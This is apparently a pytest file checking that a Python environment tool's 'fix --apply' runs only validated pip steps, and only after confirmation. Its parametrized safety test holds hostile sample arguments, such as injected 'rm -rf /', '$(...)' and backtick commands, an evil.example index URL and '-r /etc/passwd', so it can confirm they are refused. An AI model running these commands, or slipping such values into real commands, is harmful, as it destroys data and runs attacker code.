"""`envcheck fix --apply`: only pip steps, only after asking, only validated arguments.

The end-to-end test makes a throwaway venv holding tiny real wheels named torch 2.5.1 and
torchvision 0.19.0 (a mismatched pair), runs `envcheck verify` in it (EC230 fires), applies
the plan from a local wheelhouse (PIP_NO_INDEX / PIP_FIND_LINKS: pip's own settings), and runs
`verify` again: the pairing finding is gone and pip really installed torchvision 0.20.1.
"""

from __future__ import annotations

import json
import os
import subprocess
import venv
from pathlib import Path

import pytest
from docker_support import fake_wheel, runtime_closure
from fix_support import EVIL, findings, load, run_envcheck

import envcheck
from envcheck.compat import load_matrix
from envcheck.fix.apply import ApplyRefused, apply_plan, command_is_safe, runnable
from envcheck.fix.plan import PYTHON, Action, Plan, build_plan


def _deps_dir(root: Path) -> Path:
    """A directory with links to envcheck and its runtime dependencies (nothing else)."""
    deps = root / "deps"
    deps.mkdir()
    (deps / "envcheck").symlink_to(Path(envcheck.__file__).parent)
    # pip itself, so the venv needs no ensurepip (slow); it installs into the venv it runs in
    import pip

    (deps / "pip").symlink_to(Path(pip.__file__).parent)
    for dist in runtime_closure("envcheck"):
        if dist.metadata["Name"].lower() == "envcheck":
            continue
        tops = set()
        for f in dist.files or []:
            parts = Path(str(f)).parts
            if parts and parts[0] != ".." and parts[0] not in tops:
                tops.add(parts[0])
        for top in tops:
            src = Path(dist.locate_file(top))
            if src.exists() and not (deps / top).exists():
                (deps / top).symlink_to(src)
    return deps


@pytest.fixture(scope="module")
def pair_venv(tmp_path_factory: pytest.TempPathFactory) -> dict:
    root = tmp_path_factory.mktemp("applyvenv")
    wheels = root / "wheels"
    fake_wheel(wheels, "torch", "2.5.1")
    fake_wheel(wheels, "torchvision", "0.19.0", requires=["torch==2.4.0"])
    fake_wheel(wheels, "torchvision", "0.20.1", requires=["torch==2.5.1"])
    env_dir = root / "venv"
    venv.EnvBuilder(with_pip=False).create(env_dir)
    python = str(env_dir / "bin" / "python")
    site = subprocess.run(
        [python, "-c", "import sysconfig; print(sysconfig.get_paths()['purelib'])"],
        capture_output=True,
        text=True,
        check=True,
    ).stdout.strip()
    (Path(site) / "envcheck-deps.pth").write_text(str(_deps_dir(root)) + "\n")
    pip_env = {**os.environ, "PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(wheels)}
    pip_env["PIP_DISABLE_PIP_VERSION_CHECK"] = "1"
    subprocess.run(
        [python, "-m", "pip", "install", "-q", "--no-deps", "torch==2.5.1", "torchvision==0.19.0"],
        check=True,
        env=pip_env,
        timeout=120,
    )
    return {"python": python, "env": pip_env, "root": root}


def _verify(python: str, env: dict) -> tuple:
    """(finding codes, installed packages) from `envcheck verify --format json` in the venv."""
    proc = run_envcheck("verify", "--format", "json", python=python, env=env)
    assert proc.returncode in (0, 1), proc.stderr
    report = json.loads(proc.stdout)
    installed = report["snapshot"]["packages"]["installed"]
    return [f["code"] for f in report["findings"]], installed


def test_apply_pairs_torchvision_in_a_real_venv(pair_venv: dict) -> None:
    python, env = pair_venv["python"], pair_venv["env"]
    codes, installed = _verify(python, env)
    assert "EC230" in codes
    assert installed["torch"] == "2.5.1" and installed["torchvision"] == "0.19.0"
    # stdin is a pipe: no terminal to ask and no --yes -> refused (exit 2), nothing changed
    refused = run_envcheck("fix", "--apply", python=python, env=env, stdin="")
    assert refused.returncode == 2, refused.stdout + refused.stderr
    assert "refusing to apply without --yes" in refused.stderr
    assert "[torch-pair]" in refused.stdout  # it showed what it would have run
    assert _verify(python, env)[1]["torchvision"] == "0.19.0"
    restore_dir = pair_venv["root"] / "restore"
    restore_dir.mkdir()
    applied = run_envcheck(
        "fix", "--apply", "--yes", "--restore-dir", str(restore_dir), python=python, env=env
    )
    assert applied.returncode == 0, applied.stdout + applied.stderr
    # it showed the step, with the venv's interpreter, then ran pip as an argument list
    assert "[torch-pair]" in applied.stdout
    assert f"$ {python} -m pip install torchvision==0.20.1" in applied.stdout
    codes, installed = _verify(python, env)
    assert installed["torchvision"] == "0.20.1"
    assert "EC230" not in codes
    # the set before it ran was saved first, and the output names the file
    (restore,) = restore_dir.iterdir()
    assert f"Saved the current set to {restore}" in applied.stdout
    assert applied.stdout.index("Saved the current set") < applied.stdout.index("\n$ " + python)
    saved = restore.read_text().splitlines()
    assert "torchvision==0.19.0" in saved and "torch==2.5.1" in saved


def test_failed_step_restores_the_previous_set(pair_venv: dict, tmp_path: Path) -> None:
    """Step 1 changes the venv (torchvision 0.19.0 -> 0.20.1), step 2 fails (no such wheel):
    the saved set is reinstalled, so the venv is as before."""
    python, env = pair_venv["python"], pair_venv["env"]
    subprocess.run(
        [python, "-m", "pip", "install", "-q", "--no-deps", "torchvision==0.19.0"],
        check=True,
        env=env,
        timeout=120,
    )
    assert _verify(python, env)[1]["torchvision"] == "0.19.0"
    plan = Plan(
        actions=[
            Action(
                id="pair",
                description="d",
                commands=[[PYTHON, "-m", "pip", "install", "--no-deps", "torchvision==0.20.1"]],
                scope="python-env",
            ),
            Action(
                id="doomed",
                description="d",
                commands=[[PYTHON, "-m", "pip", "install", "torchaudio==99.0"]],
                scope="python-env",
            ),
        ]
    )
    import io

    out = io.StringIO()
    old_environ = dict(os.environ)
    os.environ.update(env)  # pip's own settings: the local wheelhouse, no index
    try:
        code = apply_plan(plan, yes=True, interactive=False, out=out, python=python,
                          restore_dir=tmp_path)  # fmt: skip
    finally:
        os.environ.clear()
        os.environ.update(old_environ)
    text = out.getvalue()
    assert code == 1, text
    assert "step doomed failed" in text and "Restored the previous set." in text, text
    assert _verify(python, env)[1]["torchvision"] == "0.19.0"  # as before the plan


def test_apply_only_judges_this_environment_live() -> None:
    snap = str(Path(__file__).parent / "fixtures/fix/cpu-only-torch.json")
    proc = run_envcheck("fix", "--snapshot", snap, "--apply", "--yes", stdin="")
    assert proc.returncode == 2, proc.stdout + proc.stderr
    assert "judges it live" in proc.stderr and "Traceback" not in proc.stderr
    assert "pip" not in proc.stdout  # nothing was shown as run


def test_apply_refuses_non_interactive_plan() -> None:
    plan = Plan(
        actions=[
            Action(
                id="pair",
                description="d",
                commands=[[PYTHON, "-m", "pip", "install", "torchvision==0.20.1"]],
                scope="python-env",
            )
        ]
    )
    with pytest.raises(ApplyRefused, match="without --yes"):
        apply_plan(plan, yes=False, interactive=False)


def test_apply_declined_changes_nothing(tmp_path: Path) -> None:
    marker = tmp_path / "ran"
    plan = Plan(
        actions=[
            Action(
                id="x",
                description="d",
                commands=[[PYTHON, "-m", "pip", "install", "somepkg==1.0"]],
                scope="python-env",
            )
        ]
    )
    import io

    out = io.StringIO()
    code = apply_plan(plan, yes=False, interactive=True, ask=lambda _: "n", out=out)
    assert code == 2 and "Nothing changed" in out.getvalue()
    assert not marker.exists()


@pytest.mark.parametrize(
    "cmd",
    [
        [PYTHON, "-m", "pip", "install", "torch==2.5.1; rm -rf /"],
        [PYTHON, "-m", "pip", "install", "$(touch /tmp/x)"],
        [PYTHON, "-m", "pip", "install", "`id`"],
        [PYTHON, "-m", "pip", "install", "torch==2.5.1\nrm -rf /"],
        [PYTHON, "-m", "pip", "install", "--index-url", "http://evil.example/simple"],
        [PYTHON, "-m", "pip", "install", "-r", "/etc/passwd"],
        [PYTHON, "-m", "pip", "install", "--pre", "torch"],
        ["rm", "-rf", "/"],
        ["/bin/sh", "-c", "pip install torch"],
        [PYTHON, "-c", "import os"],
    ],
)
def test_unsafe_commands_are_refused(cmd: list) -> None:
    assert not command_is_safe(cmd)
    plan = Plan(actions=[Action(id="evil", description="d", commands=[cmd], scope="python-env")])
    with pytest.raises(ApplyRefused):
        apply_plan(plan, yes=True, interactive=False)


def test_safe_command_shape() -> None:
    assert command_is_safe(
        [
            PYTHON,
            "-m",
            "pip",
            "install",
            "torch==2.5.1",
            "--index-url",
            "https://download.pytorch.org/whl/cu124",
        ]
    )
    assert command_is_safe([PYTHON, "-m", "pip", "uninstall", "-y", "torch", "torchvision"])


def test_only_python_env_steps_without_root_are_runnable() -> None:
    plan = build_plan(load("os-settings"), findings("os-settings"), load_matrix())
    assert plan.actions and runnable(plan) == []
    plan = build_plan(load("cpu-only-torch"), findings("cpu-only-torch"), load_matrix())
    ids = [a.id for a in runnable(plan)]
    assert ids == ["torch-install"]  # one pip transaction, no uninstall first


def test_malicious_snapshot_gives_nothing_to_run(tmp_path: Path) -> None:
    plan = build_plan(load("malicious"), findings("malicious"), load_matrix())
    for action in runnable(plan):
        for cmd in action.commands:
            assert command_is_safe(cmd), cmd
            joined = " ".join(cmd)
            for evil in EVIL:
                assert evil not in joined
            assert "pwned" not in joined and "$(" not in joined and "`" not in joined
    proc = run_envcheck(
        "fix",
        "--snapshot",
        str(Path(__file__).parent / "fixtures/fix/malicious.json"),
        "--format",
        "json",
    )
    assert proc.returncode == 0, proc.stderr
    for action in json.loads(proc.stdout)["actions"]:
        for cmd in action["commands"]:
            assert "pwned" not in " ".join(cmd)
    assert not Path("/tmp/envcheck-pwned").exists()
